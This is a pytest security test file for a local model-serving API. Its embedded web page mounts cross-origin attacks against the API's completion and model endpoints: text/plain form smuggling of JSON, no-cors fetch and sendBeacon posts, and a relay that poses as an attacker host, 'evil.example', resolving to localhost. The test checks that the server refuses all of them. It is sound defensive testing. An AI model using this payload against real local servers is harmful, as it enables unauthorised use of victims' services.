"""Tries in a headless browser what a web page can do to a server without keys on this machine."""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest

from actors.storage.home import create
from support.serving import Server, serving

pytestmark = pytest.mark.program

BROWSERS = ("chromium-headless-shell", "chromium", "google-chrome", "chrome-headless-shell")
NOTICED_S = 60.0
EVIL = ("127.0.0.1.evil.example", "evil.example")

PAGE = """<!DOCTYPE html><meta charset="utf-8">
<form method="post" enctype="text/plain" target="inside">
<input name='{"model": "base", "prompt": "form", "max_tokens": 1, "user": "' value='"}'></form>
<iframe name="inside"></iframe><script>
const body = JSON.stringify({model: "base", prompt: "fetch", max_tokens: 1});
const json = {"Content-Type": "application/json"};
async function attack(url, options) {
  try {
    const answer = await fetch(url, options);
    return answer.type + " " + answer.status + " " + (await answer.text()).slice(0, 200);
  } catch (error) { return "refused by the browser"; }
}
async function all() {
  const told = {}, [elsewhere, here] = [SERVER, ""];
  for (const [name, url] of [["elsewhere", elsewhere], ["here", here]]) {
    for (const path of ["completions", "chat/completions", "sample"]) {
      const to = url + "/v1/" + path;
      told[`${name} ${path} text`] = await attack(to, {method: "POST", body, mode: "no-cors"});
      told[`${name} ${path} form`] = await attack(to, {
        method: "POST", body: new URLSearchParams({model: "base"}), mode: "no-cors"});
      told[`${name} ${path} blob`] = await attack(to, {
        method: "POST", body: new Blob([body]), mode: "no-cors"});
      told[`${name} ${path} json`] = await attack(to, {method: "POST", body, headers: json});
      told[`${name} ${path} beacon`] = String(navigator.sendBeacon(to, body));
    }
    told[`${name} models`] = await attack(url + "/v1/models", {});
    told[`${name} models opaque`] = await attack(url + "/v1/models", {mode: "no-cors"});
    told[`${name} model slash`] = await attack(url + "/v1/models/", {});
  }
  document.forms[0].action = elsewhere + "/v1/completions";
  document.forms[0].submit();
  await new Promise(done => document.querySelector("iframe").onload = done);
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
}
all();
</script>"""


class Relay:
    """A port that passes each connection on to the server byte for byte, and notes statuses.

    As the machine of an attacker whose name leads to this machine from the second request on, it
    answers with its page itself.

    Attributes:
        statuses: the path and status of each request that the server has answered.
    """

    def __init__(self, port: int, page: bytes = b"") -> None:
        self._to, self._page = port, page
        self.statuses: list[tuple[str, int]] = []
        self.told: dict[str, str] = {}
        self.done = threading.Event()
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def close(self) -> None:
        self._socket.close()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._socket.accept()
                threading.Thread(target=self._serve, args=(connection,), daemon=True).start()

    def _serve(self, connection: socket.socket) -> None:
        """Answers one request; `Connection: close` makes the browser send the next one anew."""
        with connection, suppress(OSError):
            connection.settimeout(30)
            head, body = _request(connection)
            path = head.split(b" ", 2)[1].decode() if head else ""
            if self._page and path in ("/", "/told", "/favicon.ico"):
                if path == "/told":
                    self.told = json.loads(body)
                    self.done.set()
                connection.sendall(_answer(self._page if path == "/" else b""))
                return
            if not head:
                return
            closing = re.sub(rb"(?im)^connection:.*\r\n", b"", head)
            closing = closing.replace(b"\r\n", b"\r\nConnection: close\r\n", 1)
            with socket.create_connection(("127.0.0.1", self._to), timeout=30) as server:
                server.sendall(closing + body)
                answer = b""
                while part := server.recv(65536):
                    answer += part
            self.statuses.append((path, int(answer.split(b" ", 2)[1])))
            connection.sendall(answer)


def _request(connection: socket.socket) -> tuple[bytes, bytes]:
    content = b""
    while b"\r\n\r\n" not in content:
        if not (part := connection.recv(65536)):
            return b"", b""
        content += part
    head, _, body = content.partition(b"\r\n\r\n")
    length = re.search(rb"(?im)^content-length: *(\d+)", head)
    while length and len(body) < int(length[1]) and (part := connection.recv(65536)):
        body += part
    return head + b"\r\n\r\n", body


def _answer(body: bytes) -> bytes:
    head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: "
    return f"{head}{len(body)}\r\n\r\n".encode() + body


@pytest.fixture(scope="module")
def browser() -> str:
    found = next(filter(None, map(shutil.which, BROWSERS)), None)
    if found is None:
        pytest.skip(f"no browser is installed, none of {', '.join(BROWSERS)}")
    return found


@pytest.fixture(scope="module")
def server(tiny_model: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    home = tmp_path_factory.mktemp("open") / "home"
    create(home)
    with serving(tiny_model, home) as found:
        yield found


@contextmanager
def visiting(browser: str, url: str, profile: Path) -> Iterator[None]:
    """Opens a page in a browser to which every name of the attacker leads to this machine."""
    options = [
        "--headless", "--no-sandbox", "--disable-gpu", "--no-proxy-server",
        "--disable-dev-shm-usage", f"--user-data-dir={profile}",
        "--host-resolver-rules=MAP *.example 127.0.0.1", "--remote-debugging-port=0", url,
    ]  # fmt: skip
    process = subprocess.Popen(
        [browser, *options], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        start_new_session=True,
    )  # fmt: skip
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait(30)


def port_of(server: Server) -> int:
    return int(server.url.rpartition(":")[2].partition("/")[0])


@pytest.mark.parametrize("name", EVIL)
def test_a_page_of_another_name_reads_and_draws_nothing(
    browser: str, server: Server, tmp_path: Path, name: str
) -> None:
    """The page attacks this machine under its address, and under the page's own name."""
    direct = Relay(port_of(server))
    page = PAGE.replace("SERVER", json.dumps(f"http://127.0.0.1:{direct.port}"))
    own = Relay(port_of(server), page.encode())
    with visiting(browser, f"http://{name}:{own.port}/", tmp_path / "profile"):
        assert own.done.wait(NOTICED_S), (own.statuses, direct.statuses)
    assert len(own.told) == 36
    assert {status for _, status in own.statuses} <= {401}
    assert {path for path, _ in own.statuses} > {"/v1/models", "/v1/completions", "/v1/sample"}
    assert {status for _, status in direct.statuses} <= {401, 405, 415}
    assert len(direct.statuses) > 10
    readable = [told for attack, told in own.told.items() if attack.startswith("elsewhere")]
    assert {told.partition(" ")[0] for told in readable} <= {"opaque", "refused", "true"}
    assert '"object"' not in json.dumps(own.told)
    for relay in (own, direct):
        relay.close()


def test_the_browser_reaches_the_server_where_it_may(
    browser: str, server: Server, tmp_path: Path
) -> None:
    """Otherwise the test above would pass whatever the server does."""
    relay = Relay(port_of(server))
    with visiting(browser, f"http://localhost:{relay.port}/v1/models", tmp_path / "profile"):
        for _ in range(int(NOTICED_S * 10)):
            if ("/v1/models", 200) in relay.statuses:
                break
            threading.Event().wait(0.1)
    assert ("/v1/models", 200) in relay.statuses
    relay.close()
